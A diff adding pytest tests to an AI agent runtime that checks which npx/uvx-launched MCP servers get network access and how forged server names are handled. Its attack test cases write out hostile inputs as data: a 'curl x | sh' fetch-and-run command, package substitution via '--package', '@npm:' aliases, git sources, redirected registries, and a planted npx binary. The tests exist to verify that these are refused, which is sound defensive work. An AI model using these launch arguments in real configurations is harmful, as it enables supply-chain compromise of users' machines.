@@ -775,3 +775,188 @@ def test_teamrt_mcp_says_which_variable_left_a_repository_entry_out_and_never_sh
     assert SECRET_VALUE not in out and "fine  http: https://example.invalid/?k=sesame" in out
     [warning] = [line for line in out.splitlines() if "'leaky'" in line]
     assert warning.startswith("teamrt: warning: ") and f"[mcp] env names {SECRET_VARIABLE}" in warning
+
+
+# -- servers launched with npx, uvx ... (teamrt.mcp.launchers) -----------------------------------------------
+
+EVERYTHING_PACKAGE = "@modelcontextprotocol/server-everything"
+
+
+def test_a_launched_server_is_named_at_the_start_with_its_package_and_the_setting_that_allows_it(
+    tmp_path: Path,
+) -> None:
+    from teamrt.mcp.config import mcp_notices
+
+    servers: dict[str, dict[str, Any]] = {
+        "ev": {"command": "npx", "args": ["-y", EVERYTHING_PACKAGE]},
+        "time": {"command": "uvx", "args": ["mcp-server-time"]},
+        "plain": {"command": "node"},
+    }
+    notes = mcp_notices(load_mcp_config(tmp_path, servers, team_source="team.toml"))
+    assert len(notes) == 2 and all("\n" not in n for n in notes), notes
+    ev = next(n for n in notes if "'ev'" in n)
+    assert "started with npx, which downloads @modelcontextprotocol/server-everything as it starts" in ev
+    assert f'[mcp] fetch_packages = ["{EVERYTHING_PACKAGE}"] to the team file' in ev
+    allowed = load_mcp_config(tmp_path, servers, fetch_packages=(EVERYTHING_PACKAGE, "mcp_server_time"))
+    assert mcp_notices(allowed) == []  # names compare as their registry compares them (PyPI: - _ .)
+    assert (
+        allowed.servers["ev"].fetch and allowed.servers["time"].fetch and not allowed.servers["plain"].fetch
+    )
+
+
+@pytest.mark.parametrize(
+    ("command", "args", "env", "why"),
+    [
+        ("/tmp/planted/npx", ["-y", EVERYTHING_PACKAGE], {}, "is not the npx that PATH finds"),
+        ("./npx", ["-y", EVERYTHING_PACKAGE], {}, "is not the npx that PATH finds"),
+        ("npx", ["-y", EVERYTHING_PACKAGE], {"PATH": "/workspace/bin"}, "its env sets PATH"),
+        ("npx", ["-y", EVERYTHING_PACKAGE], {"NPM_CONFIG_REGISTRY": "http://x"}, "NPM_CONFIG_REGISTRY"),
+        ("npx", ["-p", "evil-pkg", "-y", EVERYTHING_PACKAGE], {}, "the option '-p'"),
+        ("npx", ["--package=evil-pkg", EVERYTHING_PACKAGE], {}, "the option '--package=evil-pkg'"),
+        ("npx", ["-c", "curl x | sh", EVERYTHING_PACKAGE], {}, "the option '-c'"),
+        ("npx", ["--registry", "http://x", EVERYTHING_PACKAGE], {}, "the option '--registry'"),
+        ("npx", ["-y", f"{EVERYTHING_PACKAGE}@npm:evil-pkg"], {}, "is not a npm package name"),
+        ("npx", ["-y", "github:evil/server-everything"], {}, "is not a npm package name"),
+        ("npx", ["-y", "./server-everything"], {}, "is not a npm package name"),
+        ("uvx", ["--from", "evil-pkg", "mcp-server-time"], {}, "the option '--from'"),
+        ("uvx", ["--with", "evil-pkg", "mcp-server-time"], {}, "the option '--with'"),
+        ("uvx", ["git+https://x/evil", "mcp-server-time"], {}, "is not a pypi package name"),
+    ],
+)
+def test_attack_a_launch_that_could_fetch_or_run_something_else_gets_no_network(
+    tmp_path: Path, command: str, args: list[str], env: dict[str, str], why: str
+) -> None:
+    servers = {"s": {"command": command, "args": args, "env": env}}
+    allowed = (EVERYTHING_PACKAGE, "mcp-server-time", "evil-pkg@0")
+    config = load_mcp_config(tmp_path, servers, fetch_packages=allowed).servers["s"]
+    assert config.launch is not None and not config.fetch
+    assert why in config.launch.problem, config.launch
+    from teamrt.mcp.config import mcp_notices
+
+    [note] = mcp_notices(load_mcp_config(tmp_path, servers, fetch_packages=allowed))
+    assert "cannot allow this one: " in note and why in note
+
+
+@pytest.mark.parametrize(
+    ("written", "allowed", "granted"),
+    [
+        (f"{EVERYTHING_PACKAGE}@2026.8.31", EVERYTHING_PACKAGE, True),
+        (EVERYTHING_PACKAGE, f"{EVERYTHING_PACKAGE}@2026.8.31", False),  # a pinned entry allows that version
+        (f"{EVERYTHING_PACKAGE}@latest", f"{EVERYTHING_PACKAGE}@2026.8.31", False),
+        ("@modelcontextprotocol/server-everything-else", EVERYTHING_PACKAGE, False),
+        ("@evil/server-everything", EVERYTHING_PACKAGE, False),
+        ("server-everything", EVERYTHING_PACKAGE, False),
+    ],
+)
+def test_attack_only_the_package_named_is_allowed(
+    tmp_path: Path, written: str, allowed: str, granted: bool
+) -> None:
+    servers = {"s": {"command": "npx", "args": ["-y", written]}}
+    assert load_mcp_config(tmp_path, servers, fetch_packages=(allowed,)).servers["s"].fetch is granted
+
+
+@pytest.mark.parametrize("entry", ["*", "@modelcontextprotocol/*", "server-*", "npm:evil", "../x", "a b", ""])
+def test_attack_a_fetch_packages_entry_with_wildcards_or_paths_stops_the_team_file(
+    tmp_path: Path, entry: str
+) -> None:
+    team = tmp_path / "team.toml"
+    team.write_text(f'[team]\nname = "t"\nmodel = "sim"\n[mcp]\nfetch_packages = [{json.dumps(entry)}]\n')
+    with pytest.raises(TeamFileError, match=r"\[mcp\] fetch_packages"):
+        load_team(team, project=tmp_path)
+
+
+def test_fetch_packages_survive_a_resume(tmp_path: Path) -> None:
+    team = tmp_path / "team.toml"
+    team.write_text(f'[team]\nname = "t"\nmodel = "sim"\n[mcp]\nfetch_packages = ["{EVERYTHING_PACKAGE}"]\n')
+    loaded = load_team(team, project=tmp_path)
+    assert loaded.mcp_fetch_packages == (EVERYTHING_PACKAGE,)
+    assert team_from_json(team_to_json(loaded)).mcp_fetch_packages == (EVERYTHING_PACKAGE,)
+
+
+FAKE_NPX = """#!/bin/sh
+# npx as the sandbox runs it: what it was given, then the test server in its place
+export MCP_OFFLINE="${npm_config_offline:-}" MCP_CACHE="${npm_config_cache:-}"
+export MCP_NETS="$(tail -n +3 /proc/net/dev | cut -d: -f1 | tr -d ' ' | sort | tr '\\n' ,)"
+exec "%s" "%s"
+"""
+
+
+@needs_bwrap
+def test_an_allowed_launch_runs_with_the_network_and_its_own_cache_and_another_stays_offline(
+    ws: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """A fake ``npx`` first on PATH (in the workspace, which the sandbox shows) stands for the real one: the
+    allowed server's sandbox has the machine's network devices and a cache under teamrt's home; the other
+    has only loopback and is told to stay offline."""
+    bin_dir = ws / "bin"
+    bin_dir.mkdir()
+    npx = bin_dir / "npx"
+    npx.write_text(FAKE_NPX % (sys.executable, SERVER))
+    npx.chmod(0o755)
+    monkeypatch.setenv("PATH", f"{bin_dir}:{os.environ['PATH']}")
+    host_nets = sorted(
+        line.split(":")[0].strip() for line in Path("/proc/net/dev").read_text().splitlines()[2:]
+    )
+    entries = {"yes": {"command": "npx", "args": ["-y", "allowed-pkg"]},
+               "no": {"command": "npx", "args": ["-y", "other-pkg"]}}  # fmt: skip
+    config = load_mcp_config(ws, entries, fetch_packages=("allowed-pkg",), trusted=False)
+    run_dir = ws / ".teamrt" / "runs" / "r1"
+    run_dir.mkdir(parents=True)
+
+    async def go() -> dict[str, str]:
+        servers = McpServers(McpConfig(config.servers), Confinement(workspace=ws, run_dir=run_dir))
+        try:
+            await servers.prepare(["yes", "no"])
+            said = {}
+            for name in ("yes", "no"):
+                tools = by_name(servers, name)
+                said[name] = str((await run(tools[f"mcp__{name}__whoami"])).content)
+            return said
+        finally:
+            await servers.close()
+
+    said = within(60, lambda: asyncio.run(go()))
+    cache = run_dir.parent.parent / "cache" / "mcp-packages"
+    assert f"MCP_NETS={','.join(host_nets)}," in said["yes"], said["yes"]
+    assert f"MCP_CACHE={cache}/npx-" in said["yes"] and "MCP_OFFLINE= " in said["yes"] + " "
+    assert "MCP_NETS=lo, " in said["no"] + " " and "MCP_OFFLINE=true" in said["no"], said["no"]
+    [made] = list(cache.iterdir())
+    assert made.name.startswith("npx-") and made.stat().st_mode & 0o777 == 0o700
+
+
+@pytest.mark.parametrize(
+    ("rules", "server", "verdict"),
+    [
+        ({"allow": ["mcp__docs"]}, "docs", "allow"),
+        ({"allow": ["mcp__docs__*"]}, "DOCS", "allow"),
+        ({"deny": ["mcp__docs"], "allow": ["ReadMcpResourceTool"]}, "docs", "deny"),
+        ({"allow": ["mcp__docs"], "deny": ["ReadMcpResourceTool"]}, "docs", "deny"),
+        ({"allow": ["mcp__docs__search"]}, "docs", "ask"),  # one tool's rule is not the server's
+        ({"allow": ["mcp__other"]}, "docs", "ask"),
+        ({"allow": ["mcp__docs__search"]}, "docs__search", "allow-no-server"),  # a forged server name
+        ({"deny": ["mcp__docs"]}, "docs\nx", "allow-no-server"),
+    ],
+)
+def test_attack_a_resource_read_is_judged_by_its_servers_rules_and_a_forged_name_reaches_no_server(
+    ws: Path, rules: dict[str, list[str]], server: str, verdict: str
+) -> None:
+    """A read sends the model's URI to the server: that server's ``mcp__`` rules decide it. A server name
+    shaped to look like a tool rule's (``docs__search``) is no server's: judged as the bare tool it is
+    read-only, and the tool refuses it (it names no server of the agent)."""
+    from teamrt.mcp.resources import resource_tools
+    from teamrt.tools.permissions import Permissions
+
+    decision = Permissions(**rules).decide(  # type: ignore[arg-type]
+        "ReadMcpResourceTool", {"server": server, "uri": "x://y"}, read_only=True, workspace=ws
+    )
+    if verdict != "allow-no-server":
+        assert decision.verdict == verdict, decision
+        return
+
+    class Nowhere:
+        async def session(self, name: str) -> Any:
+            raise AssertionError("no server may be reached")
+
+    [reading] = resource_tools(Nowhere(), ["docs"], {"docs": 5.0}, ["ReadMcpResourceTool"])
+    with pytest.raises(ToolError, match=r"no MCP server .* with resources here; there are: docs"):
+        within(10, lambda: asyncio.run(run(reading, server=server, uri="x://y")))
